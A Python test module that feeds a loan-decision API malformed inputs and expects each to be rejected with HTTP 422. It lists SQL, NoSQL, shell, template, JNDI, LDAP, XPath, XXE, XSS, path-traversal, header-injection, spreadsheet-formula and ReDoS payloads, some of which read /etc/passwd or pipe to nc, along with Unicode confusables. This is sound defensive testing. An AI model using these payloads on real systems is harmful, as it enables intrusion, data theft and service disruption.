"""Strings that are meant to do something else than name a label: as a label, as a name, and where a number belongs."""

from collections.abc import Iterator, Mapping

from tests.robustness.corpus.case import CLIENT, Case, post

INJECTIONS: Mapping[str, str] = {
    "SQL that ends a statement": "F'; DROP TABLE decisions; --",
    "SQL that is always true": "' OR '1'='1",
    "SQL that adds a query": '" UNION SELECT record FROM decisions --',
    "SQL that waits": "1; SELECT pg_sleep(20)",
    "an operator of a document database": '{"$gt": ""}',
    "a shell command": "; cat /etc/passwd",
    "a shell substitution": "$(reboot)",
    "a shell substitution in backticks": "`id`",
    "a shell pipe": "| nc test 9 &",
    "a Jinja template": "{{7*7}}",
    "a template that reaches for classes": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "an EL template": "${7*7}",
    "an ERB template": "<%= 7*7 %>",
    "a format string": "{0.__globals__}",
    "a printf format": "%s%s%n%x",
    "a JNDI address": "${jndi:ldap://test/a}",
    "an LDAP filter": "*)(uid=*))(|(uid=*",
    "an XPath": "' or count(/*)=1 or 'a'='b",
    "an XML entity": "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "a script": "<script>alert(1)</script>",
    "an image with a script": '"><img src=x onerror=alert(1)>',
    "a link with a script": "javascript:alert(1)",
    "a style with a script": "</style><svg onload=alert(1)>",
    "an HTML comment": "<!--#exec cmd='ls'-->",
    "a path up": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "a file address": "file:///etc/passwd",
    "a header of its own": "F\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a spreadsheet's formula": "=HYPERLINK('http://test','x')",
    "a regular expression that takes long": "(a+)+" * 200 + "$",
    "a NUL": "F\0",
    "only a NUL": "\0",
    "an escape of a terminal": "\x1b[2J\x1b]0;x\x07",
    "a backspace": "Drivers\b",
    "emoji": "🏦💸👨‍👩‍👧‍👦",
    "a flag of letters": "🇫🇷",
    "right to left": "مرحبا بالعالم",
    "an override of the direction": "\u202esrevirD",
    "characters upon characters": "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    "a noncharacter": "\ufffe\uffff",
    "a private character": "\ue000\U0010ffff",
    "a byte-order mark": "\ufeffDrivers",
    "the replacement character": "Driv\ufffdrs",
    "a line separator": "Dri\u2028vers",
    "a letter that grows": "ß" * 100 + "ŉ",
    "a Turkish i": "Drİvers",
    "a string of 40,000 letters": "x" * 40_000,
}
NAMES = """
__proto__ constructor prototype toString __class__ __init__ __dict__ __reduce__ self cls UNSET None null true amt_credit
Amt_Credit AMT-CREDIT AMT_CREDIT[] AMT_CREDIT[0] AMT_CREDIT.0 $.AMT_CREDIT /AMT_CREDIT $ref $where @type @id TARGET
probability threshold decision score model_version request_id DATA Features records AMT_CREDIT\u200b ＡＭＴ_CREDIT АMT_CREDIT
AMT_СREDIT AMT\u00adCREDIT AMT_CREDIΤ ＂ SK_ID SK_ID_BUREAU sk_id_curr FLAG_DOCUMENT_1 FLAG_DOCUMENT_22 FLAG_DOCUMENT_02
EXT_SOURCE_4 EXT_SOURCE_0 AMT_CREDIT_ _AMT_CREDIT AMT__CREDIT AMT_CREDITAMT_CREDIT AMT_CREDI MT_CREDIT AMT \ufeffAMT_CREDIT
\u202eTIDERC_TMA AMT_CREDIT\u0301 e\u0301 \u00e9 \U0001f4b8 0 -1 1e400 AMT_CREDIT=1 AMT_CREDIT,EXT_SOURCE_1 AMT_CREDIT\0
AMT_CREDIT\0X features\0
"""
BLANK_NAMES = (
    "",
    " ",
    "  ",
    " AMT_CREDIT",
    "AMT_CREDIT ",
    "AMT_CREDIT\t",
    "AMT_CREDIT\n",
    "AMT_CREDIT\r\n",
    "data ",
    " data",
    "data\n",
)
LABELS = """\
cash loans|CASH LOANS|Cash Loans|Cash  loans| Cash loans|Cash loans |Cash loans\t|Cash loans\n|Cash\u00a0loans|Cash\u200bloans\
|Сash loans|Ｃash loans|Cash loans\0|\0Cash loans|Cash loan|Cash loanss|Cash_loans|Cash-loans|Cash+loans|Cash%20loans\
|Cash loans,Revolving loans|'Cash loans'|"Cash loans"|["Cash loans"]|| |0|1|null|NaN|nan|None|XNA|N|unknown|Cash loans\u0301\
|\u202dCash loans|Cash lo\u0430ns|snaol hsaC|Krediti në para|现金贷款"""


def cases() -> Iterator[Case]:
    """Each is an unknown name, an unknown label, or a string where a number belongs."""
    for name, text in INJECTIONS.items():
        yield post(f"{name} for a label", {**CLIENT, "OCCUPATION_TYPE": text}, 422)
        yield post(f"{name} for a name", {**CLIENT, text: 1}, 422)
        yield post(f"{name} for a number", {**CLIENT, "AMT_CREDIT": text}, 422)
    for text in (*NAMES.split(), *BLANK_NAMES, "AMT CREDIT", "x" * 5000):
        yield post(f"the name {_short(text)}", {**CLIENT, text: 1}, 422)
    for text in (*LABELS.split("|"), "Cash loans|Revolving loans"):
        yield post(f"the label {_short(text)}", {**CLIENT, "NAME_CONTRACT_TYPE": text}, 422)


def _short(text: str) -> str:
    return ascii(text[:30])
